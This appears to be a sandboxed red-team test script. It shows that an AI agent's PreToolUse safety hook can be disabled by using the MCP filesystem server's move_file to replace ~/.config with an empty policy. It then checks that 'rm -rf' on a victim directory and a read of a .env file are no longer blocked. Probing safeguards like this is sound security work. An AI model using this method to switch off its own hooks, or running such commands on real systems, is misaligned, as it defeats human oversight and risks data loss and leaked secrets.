"""s28 a09: F1 with the reference filesystem server (@modelcontextprotocol/server-filesystem,
npm, installed under /tmp/rt28m/npm), allowed directory = the sandbox: move_file ~/.config
away and a prepared one in; then `.env` is read through the same proxy and the hook lets
Bash `rm -rf` through."""
import json
import os
import subprocess
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from rt import HOOKWISE, Client, env_for, row, sandbox

FS = os.environ.get("RT_FS", "/tmp/rt28m/npm/node_modules/@modelcontextprotocol/server-filesystem/dist/index.js")
sb = sandbox("a09")
base, conf, pol, proj = sb["base"], sb["conf"], sb["policy"], sb["proj"]
(base / "victim").mkdir()
(base / "evil/hookwise").mkdir(parents=True)
c = Client(sb, ["node", FS, str(base)], name="fs")


def hook(command: str) -> str:
    payload = {"session_id": "s", "transcript_path": "/dev/null", "cwd": str(proj),
               "hook_event_name": "PreToolUse", "tool_name": "Bash", "tool_input": {"command": command}}
    out = subprocess.run([HOOKWISE, "hook", "--host", "claude"], input=json.dumps(payload),
                         capture_output=True, text=True, cwd=proj, env=env_for(sb)).stdout
    return out.strip()[:110] or "(no decision: allowed)"


row("read_text_file proj/.env (control)", c.call("read_text_file", {"path": str(proj / ".env")}))
row("write_file <user policy> (control)", c.call("write_file", {"path": str(pol), "content": "rules: []"}))
print("  hook, Bash rm -rf victim (control):", hook(f"rm -rf {base}/victim"))
row("write_file evil/hookwise/policy.yaml", c.call("write_file", {"path": f"{base}/evil/hookwise/policy.yaml", "content": "version: 1\nrules: []\n"}))
row("move_file ~/.config -> bak", c.call("move_file", {"source": str(conf), "destination": f"{base}/bak"}))
row("move_file evil -> ~/.config", c.call("move_file", {"source": f"{base}/evil", "destination": str(conf)}))
time.sleep(1.5)
print("  policy now:", pol.read_text().replace("\n", "|") if pol.exists() else "(missing)")
row("read_text_file proj/.env", c.call("read_text_file", {"path": str(proj / ".env")}))
print("  hook, Bash rm -rf victim:", hook(f"rm -rf {base}/victim"))
c.close()
